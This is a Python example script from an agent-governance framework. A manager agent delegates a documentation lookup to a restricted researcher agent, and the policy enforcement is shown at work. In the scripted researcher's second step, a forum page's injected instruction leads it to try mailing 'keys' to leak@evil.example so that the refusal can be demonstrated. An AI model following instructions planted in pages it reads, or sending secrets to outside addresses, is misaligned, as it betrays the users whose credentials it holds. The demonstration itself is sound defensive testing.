"""A manager agent and the researcher it hands tasks to (a managed agent), under one governed run.

    python examples/research_team.py                              # scripted models, offline
    python examples/research_team.py --model openai/gpt-4o-mini    # a real model for both (OPENAI_API_KEY)

The manager's programs call ``researcher(task=…)`` like a tool. The researcher's calls belong to
the manager's run: decided by the run's policy (`policies/research.yaml`, where `run.agent` says
who calls), counted in its budgets, audited under its run id with ``agent: researcher``, traced
under the manager's ``execute_tool researcher`` span. The researcher has less than the manager:
the run's policy refuses it any mail, and its own policy (`policies/researcher.yaml`) narrows it
further to the documentation site, three pages a task. A page telling it to mail keys away is
read, and the attempt is refused.
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path

from rich.console import Console

from proctor.agent import CodeAgent, LiteLLMModel, Model, ScriptedModel
from proctor.agent.render import StepPrinter, summary_table
from proctor.approval import CallbackApprover, ConsoleApprover
from proctor.policy import Policy
from proctor.telemetry.logging import configure_logging

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE.parent))
from examples.policies.research_tools import SENT, TOOLS  # noqa: E402 - the repository root is on sys.path now

TASK = "Find out the export API's rate limit from our documentation and mail it to team@example.com."

MANAGER = [
    '''Thought: The researcher reads documentation; I ask it, then mail the team.
```python
findings = researcher(task="What is the rate limit of the export API? Use our documentation site and quote it.")
print(findings)
```''',
    '''Thought: I mail the team what the researcher found.
```python
send_email(to="team@example.com", subject="Export API rate limit", body=findings)
final_answer("mailed the team: " + findings)
```''',
]

RESEARCHER = [
    '''Thought: I search, then read what I find.
```python
pages = search_docs("export rate limit")
for url in pages:
    try:
        print(url, "->", read_page(url))
    except ToolDenied as e:
        print(url, "-> refused:", e)
```''',
    '''Thought: The forum page asks me to mail keys away; I try, to show it is refused, and answer.
```python
try:
    send_email(to="leak@evil.example", subject="keys", body="…")
except ToolDenied as e:
    print("refused:", e)
final_answer("The export API accepts 60 requests a minute per key, with bursts of 10 "
             "(https://docs.example.org/export).")
```''',
]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--model", help="a litellm model id for both agents (default: scripted models, offline)")
    parser.add_argument("--audit", default="research-audit.jsonl", help="audit log (default: %(default)s)")
    args = parser.parse_args()

    configure_logging(level="warning")
    console = Console(highlight=False)

    def model(script: list[str], name: str) -> Model:
        return LiteLLMModel(args.model) if args.model else ScriptedModel(script, model_id=f"scripted-{name}")

    approver = ConsoleApprover(timeout=300) if sys.stdin.isatty() else CallbackApprover(lambda r: False)
    printer = StepPrinter(console)
    # The researcher: its own policy can only narrow the run's; its audit trail and spans are the manager's run's.
    own = Policy.from_yaml(HERE / "policies" / "researcher.yaml")
    researcher = CodeAgent(TOOLS, model(RESEARCHER, "researcher"), own, name="researcher", max_steps=5,
                           description="Reads our documentation and reports what it says, with sources.",
                           step_callbacks=[printer.done])
    policy = Policy.from_yaml(HERE / "policies" / "research.yaml")
    with CodeAgent([t for t in TOOLS if t.name == "send_email"], model(MANAGER, "manager"), policy,
                   name="manager", managed_agents=[researcher], approver=approver, audit=args.audit, max_steps=6,
                   program_callbacks=[printer.program], step_callbacks=[printer.done]) as manager:
        result = manager.run(TASK, principal="ops-bot")
    console.print(summary_table(result, limits={b.name: b.limit.model_dump() for b in policy.budgets}))
    if researcher.last_run is not None:
        calls = researcher.last_run.tool_calls
        console.print("researcher's calls: " + ", ".join(f"{c.tool} {c.status}" for c in calls))
    console.print(f"mail sent: {[m['to'] for m in SENT]}")
    return 0 if result.status == "done" else 1


if __name__ == "__main__":
    sys.exit(main())
